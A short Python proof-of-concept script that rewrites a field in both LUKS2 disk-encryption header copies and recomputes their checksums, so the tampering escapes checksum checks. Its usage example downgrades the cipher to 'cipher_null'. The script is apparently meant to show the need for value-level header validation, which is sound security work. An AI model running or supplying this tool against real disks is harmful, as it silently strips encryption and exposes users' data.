#!/usr/bin/env python3
"""What a hostile host can do to a LUKS2 header: set one JSON member in both header copies and
recompute their SHA-256 checksums, so that only a validator that reads the values can tell.
Usage: luks2_rewrite.py IMAGE DOTTED.PATH VALUE   (e.g. segments.0.encryption cipher_null)"""
import hashlib
import json
import sys

HEADER = 16384          # binary header (4096) + JSON area, per copy
CSUM = slice(448, 512)  # the checksum field of the binary header


def rewrite(copy: bytearray, path: list, value: str) -> None:
    area = bytes(copy[4096:HEADER])
    doc = json.loads(area.split(b"\0", 1)[0])
    node = doc
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    text = json.dumps(doc, separators=(",", ":")).encode()
    copy[4096:HEADER] = text + bytes(HEADER - 4096 - len(text))
    copy[CSUM] = bytes(64)
    copy[CSUM] = hashlib.sha256(copy).digest() + bytes(32)


def main() -> None:
    image, path, value = sys.argv[1], sys.argv[2].split("."), sys.argv[3]
    with open(image, "r+b") as f:
        for offset in (0, HEADER):
            f.seek(offset)
            copy = bytearray(f.read(HEADER))
            rewrite(copy, path, value)
            f.seek(offset)
            f.write(copy)


main()
